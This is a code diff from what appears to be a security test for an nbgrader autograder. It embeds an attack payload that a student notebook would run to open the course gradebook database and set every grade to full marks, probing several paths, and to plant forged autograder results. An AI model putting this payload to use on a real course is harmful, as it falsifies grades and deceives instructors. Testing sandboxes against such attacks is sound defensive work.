@@ -1,4 +1,5 @@
-"""Opens the gradebook (<out>/gradebook.db, its absolute path known) with sqlite3 and gives
+"""Opens the gradebook (<out>/gradebook.db by its absolute path, and gradebook.db relative to
+the working directory, where stock nbgrader runs kernels: the course root) with sqlite3 and gives
 every recorded grade full manual marks, then also tries to drop in forged results for itself
 (<out>/.autograder/results/...), which the nbgrader step would read. Stock nbgrader: the
 UPDATE persists, and nbgrader never overwrites manual scores, so the grades stick (100/100,
@@ -11,13 +12,14 @@ ATTACK = '''
 {KERNEL_LIB}
 import json, os, sqlite3
 _done = []
-try:
-    _db = sqlite3.connect("file:{OUT}/gradebook.db?mode=rw", uri=True, timeout=2)
-    _db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
-    _db.commit()
-    _done.append("gradebook updated")
-except sqlite3.Error as _e:
-    print("gradebook blocked:", _e)
+for _db_path in ("{OUT}/gradebook.db", "gradebook.db", "../gradebook.db", "../../../gradebook.db"):
+    try:
+        _db = sqlite3.connect(f"file:{_db_path}?mode=rw", uri=True, timeout=2)
+        _db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
+        _db.commit()
+        _done.append("updated " + _db_path)
+    except sqlite3.Error as _e:
+        print("gradebook blocked:", _db_path, _e)
 _folder = "{OUT}/.autograder/results/gradebook_sqlite_write"
 if os.path.isdir("{OUT}/.autograder/results"):  # the grader's folder, not a look-alike in our /tmp
     try:
